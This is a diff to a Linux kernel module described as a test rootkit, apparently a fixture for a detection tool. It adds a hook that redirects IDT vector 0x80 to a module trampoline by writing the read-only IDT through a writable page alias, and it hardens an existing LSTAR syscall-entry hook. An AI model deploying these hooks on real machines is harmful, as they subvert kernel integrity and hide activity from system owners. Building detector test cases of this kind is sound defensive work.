@@ -21,7 +21,14 @@
  *  - with `hook_lstar=1`, points every CPU's LSTAR (where `syscall` enters the
  *    kernel) at a trampoline in this module that jumps on to the real entry, so
  *    that it sees every system call first. Refused under page-table isolation,
- *    whose user page tables do not map module text.
+ *    whose user page tables do not map module text;
+ *  - with `hook_idt=1`, points the IDT gate of vector 0x80 (IA32_SYSCALL_VECTOR,
+ *    the classic rootkit target) at a trampoline in this module that jumps on to
+ *    the gate's original handler. The gate is rewritten in the table the CPU
+ *    loads (IDTR; the kernel maps `idt_table` there read-only after boot) through
+ *    a writable alias of its page; the trampoline's address is readable in
+ *    /sys/module/specula_rootkit/parameters/idt_hook. Refused under page-table
+ *    isolation, like `hook_lstar`.
  *
  * It takes no locks it cannot reach (tasklist_lock and module_mutex are not
  * exported): the test guest is idle while it loads. It cannot be unloaded.
@@ -33,7 +40,11 @@
 #include <linux/sched/task.h>
 #include <linux/vmalloc.h>
 #include <asm/cpufeature.h>
+#include <asm/desc.h>
+#include <asm/ibt.h>
+#include <asm/irq_vectors.h>
 #include <asm/msr.h>
+#include <asm/nospec-branch.h>
 
 static int hide_pid;
 module_param(hide_pid, int, 0);
@@ -59,8 +70,19 @@ static bool hook_lstar;
 module_param(hook_lstar, bool, 0);
 MODULE_PARM_DESC(hook_lstar, "send every CPU's syscall entry (LSTAR) through this module");
 
+static bool hook_idt;
+module_param(hook_idt, bool, 0);
+MODULE_PARM_DESC(hook_idt, "send IDT vector 0x80 through this module");
+
+/* Where the hooked IDT gate points now (0: not hooked), for the test to compare. */
+static unsigned long idt_hook_address;
+module_param_named(idt_hook, idt_hook_address, ulong, 0444);
+MODULE_PARM_DESC(idt_hook, "address of the IDT trampoline once hooked (read-only)");
+
 /* The entry the trampoline jumps on to (read from LSTAR before the hook). */
 static unsigned long original_lstar __used;
+/* The handler of the hooked IDT gate before the hook. */
+static unsigned long original_idt_entry __used;
 
 /*
  * Entered by `syscall` in ring 0 on the user's stack and GS base, before the
@@ -69,11 +91,28 @@ static unsigned long original_lstar __used;
 asm(".pushsection .text, \"ax\"\n"
     ".globl specula_lstar_hook\n"
     ".type specula_lstar_hook, @function\n"
-    "specula_lstar_hook:\n"
-    "\tjmp *original_lstar(%rip)\n"
+    "specula_lstar_hook:\n\t"
+    ASM_ENDBR
+    ANNOTATE_RETPOLINE_SAFE
+    "jmp *original_lstar(%rip)\n"
     ".size specula_lstar_hook, . - specula_lstar_hook\n"
     ".popsection\n");
 void specula_lstar_hook(void);
+
+/*
+ * Entered through the hooked IDT gate with the CPU's interrupt frame on the
+ * stack and nothing else done: it jumps on to the original entry stub.
+ */
+asm(".pushsection .text, \"ax\"\n"
+    ".globl specula_idt_hook\n"
+    ".type specula_idt_hook, @function\n"
+    "specula_idt_hook:\n\t"
+    ASM_ENDBR
+    ANNOTATE_RETPOLINE_SAFE
+    "jmp *original_idt_entry(%rip)\n"
+    ".size specula_idt_hook, . - specula_idt_hook\n"
+    ".popsection\n");
+void specula_idt_hook(void);
 
 typedef long (*syscall_fn_t)(const struct pt_regs *);
 static syscall_fn_t original;
@@ -167,6 +206,46 @@ static int hook_syscall_entry(void)
 	return 0;
 }
 
+/*
+ * Points IDT gate IA32_SYSCALL_VECTOR at the trampoline. The IDT the CPU loads is
+ * read-only; its page is written through a writable alias, found from IDTR.
+ */
+static int hook_interrupt(void)
+{
+	struct desc_ptr idtr;
+	unsigned long gate_va, target;
+	phys_addr_t gate_pa;
+	struct page *page;
+	gate_desc gate;
+	void *alias;
+
+	if (boot_cpu_has(X86_FEATURE_PTI))
+		return -EOPNOTSUPP;
+	store_idt(&idtr);
+	if (idtr.size < (IA32_SYSCALL_VECTOR + 1) * sizeof(gate_desc) - 1)
+		return -ENOENT;
+	gate_va = idtr.address + IA32_SYSCALL_VECTOR * sizeof(gate_desc);
+	memcpy(&gate, (void *)gate_va, sizeof(gate));
+	if (!gate.bits.p)
+		return -ENOENT;
+	original_idt_entry = gate_offset(&gate);
+	target = (unsigned long)specula_idt_hook;
+	gate.offset_low = (u16)target;
+	gate.offset_middle = (u16)(target >> 16);
+	gate.offset_high = (u32)(target >> 32);
+
+	gate_pa = slow_virt_to_phys((void *)gate_va);
+	page = pfn_to_page(PHYS_PFN(gate_pa));
+	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
+	if (!alias)
+		return -ENOMEM;
+	/* Not atomic: vector 0x80 is not raised while the guest loads this module. */
+	memcpy(alias + offset_in_page(gate_pa), &gate, sizeof(gate));
+	vunmap(alias);
+	idt_hook_address = target;
+	return 0;
+}
+
 static int __init specula_rootkit_init(void)
 {
 	int err;
@@ -188,6 +267,12 @@ static int __init specula_rootkit_init(void)
 		if (err)
 			return err;
 	}
+	/* Before LSTAR: past this, PTI is off and hooking LSTAR cannot fail. */
+	if (hook_idt) {
+		err = hook_interrupt();
+		if (err)
+			return err;
+	}
 	if (hook_lstar) {
 		err = hook_syscall_entry();
 		if (err)
@@ -200,4 +285,4 @@ static int __init specula_rootkit_init(void)
 module_init(specula_rootkit_init);
 
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("Specula's test rootkit: hides a process and itself, redirects a system call");
+MODULE_DESCRIPTION("Specula's test rootkit: hides a process and itself, redirects a system call and an interrupt");
